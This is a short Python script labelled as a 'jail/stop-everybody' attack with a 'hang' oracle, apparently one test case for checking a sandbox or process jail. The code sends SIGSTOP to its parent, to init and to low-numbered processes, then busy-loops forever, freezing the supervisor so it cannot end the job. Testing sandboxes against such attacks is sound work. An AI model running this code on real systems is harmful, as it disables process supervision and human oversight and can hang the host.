# attack: jail/stop-everybody
# oracle: hang
# imports: os, signal, time
# tools:
# source: own
# note: a supervisor that sleeps cannot end anything
import os, signal
for pid in {os.getppid(), 1, *range(2, 40)} - {os.getpid()}:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
while True:
    pass
